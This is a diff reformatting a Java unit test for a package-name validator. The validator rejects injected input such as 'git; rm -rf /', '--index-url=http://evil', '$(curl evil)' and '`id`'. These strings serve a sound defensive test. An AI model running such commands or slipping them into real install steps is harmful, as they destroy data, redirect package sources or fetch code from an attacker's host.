@@ -114,11 +114,13 @@ class PackageNamesTest {
   @Test
   void messageNamesThePackageTheTypeAndTheReason() {
     assertThat(PackageNames.check(PackageType.SYSTEM, "git; rm -rf /"))
-        .hasValue("Invalid system package name \"git; rm -rf /\": must not contain whitespace,"
-            + " line breaks or control characters");
+        .hasValue(
+            "Invalid system package name \"git; rm -rf /\": must not contain whitespace,"
+                + " line breaks or control characters");
     assertThat(PackageNames.check(PackageType.PYTHON, "--index-url=http://evil"))
-        .hasValue("Invalid python package name \"--index-url=http://evil\": must not start with"
-            + " \"-\" (it would be read as a command-line option)");
+        .hasValue(
+            "Invalid python package name \"--index-url=http://evil\": must not start with"
+                + " \"-\" (it would be read as a command-line option)");
     assertThat(PackageNames.check(PackageType.NODE, "$(curl evil)").orElseThrow())
         .startsWith("Invalid node package name \"$(curl evil)\":");
   }
@@ -141,13 +143,13 @@ class PackageNamesTest {
         .hasValue("Package name must be a string, not null");
     assertThat(PackageNames.check(PackageType.NODE, "a".repeat(PackageNames.MAX_LENGTH + 1)))
         .isPresent();
-    assertThat(PackageNames.check(PackageType.NODE, "a".repeat(PackageNames.MAX_LENGTH)))
-        .isEmpty();
+    assertThat(PackageNames.check(PackageType.NODE, "a".repeat(PackageNames.MAX_LENGTH))).isEmpty();
   }
 
   @Test
   void validateOfARequestBodyNamesEachBadIndex() {
-    assertThat(PackageNames.validate(PackageType.PYTHON, List.of("requests", "x;y", "numpy", "`id`")))
+    assertThat(
+            PackageNames.validate(PackageType.PYTHON, List.of("requests", "x;y", "numpy", "`id`")))
         .extracting(FieldError::field)
         .containsExactly("packages[1]", "packages[3]");
   }
